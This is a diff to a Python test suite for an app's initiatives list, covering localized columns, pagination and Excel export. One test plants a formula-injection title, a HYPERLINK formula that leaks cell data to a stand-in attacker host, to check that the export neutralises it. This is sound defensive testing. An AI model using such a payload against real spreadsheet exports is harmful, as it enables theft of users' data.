@@ -1,7 +1,9 @@
 """The Programs pages through app.py: list, detail by deep link, and the create/edit form, in en and nl."""
+import io
 from datetime import date
 
 import pytest
+from openpyxl import load_workbook
 from sqlalchemy import func, select, text
 
 from cxgov.db import session_scope
@@ -10,10 +12,13 @@ from cxgov.models import AuditEvent, Initiative, InitiativeKpi, KpiReading, Role
 from cxgov.permissions import SYSTEM_ACTOR
 from cxgov.services.budget import record_expense, set_budget_line
 from cxgov.services.initiatives import record_check_in, update_initiative
+from cxgov.io.export import to_xlsx
 from cxgov.services.kpis import create_kpi
+from cxgov.ui import initiative_table
+from cxgov.ui.initiative_table import PAGE_SIZE
 from cxgov.ui.safe import plain
 from tests.factories import add_initiative, add_person
-from tests.pages.harness import open_page, texts
+from tests.pages.harness import link_table, open_page, texts
 
 LANGS = ["en", "nl"]
 
@@ -44,16 +49,24 @@ def test_list_on_an_empty_database(monkeypatch, db, lang):
 @pytest.mark.parametrize("lang", LANGS)
 def test_list_with_data_and_a_filter_from_the_url(monkeypatch, db, lang):
     url, engine = db
-    _seed(engine)
+    ids = _seed(engine)
     at = open_page(monkeypatch, url, "initiatives", lang=lang)
     assert not at.exception, at.exception
-    shown = texts(at)
-    assert "Plain-language%20invoices" in shown and "Return%20in%20any%20store" in shown
-    assert ("€1,234.56" if lang == "en" else "€\xa01.234,56") in shown
+    table = link_table(at, "initiatives_table")
+    header = [t(key, lang) for key in ("portfolio.col.title", "portfolio.col.health", "health.col.derived",
+                                       "portfolio.col.progress", "portfolio.col.status", "portfolio.col.phase",
+                                       "portfolio.col.owner", "portfolio.col.target")]
+    assert list(table.frame.columns[:8]) == header  # what matters first, in the reader's language
+    row = table.frame.set_index(header[0]).loc["Plain-language invoices"]
+    assert row[header[1]] == t("enum.health.red", lang) and row[header[3]] == "40%"
+    assert row[header[6]] == "Sanne de Vries"
+    assert row[t("portfolio.col.planned", lang)] == ("€1,234.56" if lang == "en" else "€\xa01.234,56")
+    position = table.column(header[0]).index("Plain-language invoices")
+    assert table.hrefs[position] == f"initiative?id={ids['invoices']}"
+    assert table.tints.loc[position, header[1]] == "#f8d7d7"  # red as text on the red tint
     at = open_page(monkeypatch, url, "initiatives", lang=lang, query={"discipline": "strategy"})
     assert not at.exception, at.exception
-    shown = texts(at)
-    assert "Return%20in%20any%20store" in shown and "Plain-language" not in shown
+    assert link_table(at, "initiatives_table").column(header[0]) == ["Return in any store"]
 
 
 def test_filter_widget_narrows_the_list(monkeypatch, db):
@@ -63,7 +76,7 @@ def test_filter_widget_narrows_the_list(monkeypatch, db):
     at.text_input(key="programs_list_q").input("invoice").run()
     assert not at.exception, at.exception
     shown = texts(at)
-    assert "Plain-language" in shown and "Return%20in" not in shown
+    assert "Plain-language" in shown and "Return in" not in shown
 
 
 def test_new_button_only_for_people_who_may_propose(monkeypatch, db):
@@ -280,3 +293,51 @@ def test_a_closed_initiative_offers_no_check_in(monkeypatch, db):
         assert not at.exception, at.exception
         labels[initiative] = [b.label for b in at.button]
     assert "Record check-in" in labels[running] and "Record check-in" not in labels[done]
+
+
+@pytest.mark.parametrize("lang", LANGS)
+def test_the_list_exports_the_rows_and_columns_shown(monkeypatch, db, lang):
+    url, engine = db
+    ids = _seed(engine)
+    hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"invoice")'
+    add_initiative(engine, owner_id=ids["owner"], title=hostile)
+    sheets = []
+    spied = initiative_table.initiative_sheet
+    monkeypatch.setattr(initiative_table, "initiative_sheet", lambda *a: sheets.append(spied(*a)) or sheets[-1])
+    at = open_page(monkeypatch, url, "initiatives", lang=lang, query={"q": "invoice"})  # a filtered list
+    assert not at.exception, at.exception
+    [button] = at.get("download_button")
+    assert button.proto.label == t("export.initiatives", lang)
+    shown = link_table(at, "initiatives_table").frame
+    workbook = load_workbook(io.BytesIO(to_xlsx(sheets[-1])))
+    rows = [[cell for cell in row] for row in workbook.active.iter_rows()]
+    assert [c.value for c in rows[0]] == list(shown.columns)  # the columns shown, in the reader's language
+    assert len(rows) - 1 == len(shown) == 2  # the rows shown: the filter holds
+    by_title = {row[0].value: row for row in rows[1:]}
+    assert set(by_title) == {"Plain-language invoices", "'" + hostile}  # text, a formula start neutralised
+    assert all(cell.data_type != "f" for row in rows for cell in row)
+    invoices = dict(zip(shown.columns, by_title["Plain-language invoices"], strict=True))
+    assert invoices[t("portfolio.col.health", lang)].value == t("enum.health.red", lang)
+    assert invoices[t("portfolio.col.progress", lang)].value == pytest.approx(0.4)
+    planned = invoices[t("portfolio.col.planned", lang)]
+    assert planned.value == pytest.approx(1234.56) and "€" in planned.number_format  # euros, not cents
+    assert invoices[t("portfolio.col.target", lang)].value is None  # no target date: an empty cell
+
+
+@pytest.mark.parametrize("lang", LANGS)
+def test_a_long_list_is_shown_a_hundred_rows_at_a_time(monkeypatch, db, lang):
+    url, engine = db
+    owner = add_person(engine, Role.MANAGER, name="Sanne de Vries")
+    for n in range(PAGE_SIZE + 5):
+        add_initiative(engine, owner_id=owner, title=f"Initiative {n:03}")
+    at = open_page(monkeypatch, url, "initiatives", lang=lang)
+    assert not at.exception, at.exception
+    titles = link_table(at, "initiatives_table").column(t("portfolio.col.title", lang))
+    assert titles == [f"Initiative {n:03}" for n in range(PAGE_SIZE)]  # sorted by title, the first hundred
+    assert t("tables.showing", lang, first=1, last=PAGE_SIZE, total=PAGE_SIZE + 5) in texts(at)
+    at.number_input(key="initiatives_table_page").set_value(2).run()
+    titles = link_table(at, "initiatives_table").column(t("portfolio.col.title", lang))
+    assert titles == [f"Initiative {n:03}" for n in range(PAGE_SIZE, PAGE_SIZE + 5)]
+    at.text_input(key="programs_list_q").input("Initiative 00").run()  # ten left: one page, no picker
+    assert not at.exception, at.exception
+    assert len(link_table(at, "initiatives_table").frame) == 10 and not at.number_input
